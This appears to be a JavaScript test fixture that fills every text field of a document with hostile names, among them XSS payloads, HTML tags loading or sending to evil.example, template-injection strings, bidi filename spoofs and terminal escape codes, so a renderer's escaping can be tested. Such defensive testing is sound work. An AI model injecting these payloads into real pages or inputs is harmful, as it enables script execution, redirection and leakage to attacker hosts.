// Names that a hostile program may give its functions, files, threads and tasks. All that run at all would set window.__xss.
const set = "window.__xss=1";

export const names = [
  `<script>${set}</script>`, `</script><script>${set}</script>`, `"><img src=x onerror=${set}>`, `'><svg onload=${set}>`, `<svg/onload=${set}>`,
  `<iframe srcdoc="<script>parent.${set}</script>">`, `<iframe src="javascript:parent.${set}">`, `javascript:${set}`, `<a href="javascript:${set}">x</a>`, `<math><mtext><img src=x onerror=${set}>`,
  `<body onload=${set}>`, `<details open ontoggle=${set}>`, `<video><source onerror=${set}>`, `<input autofocus onfocus=${set}>`, `<marquee onstart=${set}>`,
  `<object data="javascript:${set}">`, `<embed src="javascript:${set}">`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<style>@import url(http://evil.example/x.css)</style>`, `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`, `<form action=http://evil.example/><button>`, `<img src=http://evil.example/pixel.png>`, `<!--><img src=x onerror=${set}>-->`, `<![CDATA[<script>${set}</script>]]>`,
  `]]><script>${set}</script>`, `\${${set}}`, `{{constructor.constructor('${set}')()}}`, `#{${set}}`, `%3Cscript%3E${set}%3C/script%3E`,
  `&lt;script&gt;${set}&lt;/script&gt;`, `\\u003cscript\\u003e${set}`, `<scr\u0000ipt>${set}</script>`, `<ſcript>${set}</ſcript>`, `＜script＞${set}＜/script＞`,
  "__proto__", "constructor", "toString", "\u202egnp.exe\u202c", "\u2066rtl\u2069", "a\u200bb\u200dc\ufeff", "\u001b[31mred\u001b]0;title\u0007", "line\nbreak\r\nand\ttab", "\u0000nul", "\u2028separators\u2029",
  "Z\u0336\u0337\u0338\u0335\u0334\u0333\u0332\u0331\u0330\u0323", "\ud800lone", "\u{e0041}\u{e0042}tags", "\u3164\u2800blank", "x".repeat(9000), "", " ", `';${set}//`, `"-${set}-"`, "`;" + set + ";`", "onerror=" + set,
];

/** Puts hostile names into every text of a document, each in turn. */
export function spoil(document) {
  let turn = 0;
  const kept = new Set(["schema", "mode", "state", "verdict", "severity", "key", "id", "of", "loop", "awaits_id", "runtime"]);
  const walk = (value, name) => {
    if (typeof value === "string") return kept.has(name) ? value : names[turn++ % names.length];
    if (Array.isArray(value)) return value.map((each) => walk(each, name));
    if (value === null || typeof value !== "object") return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, walk(each, key)]));
  };
  return walk(structuredClone(document), "");
}
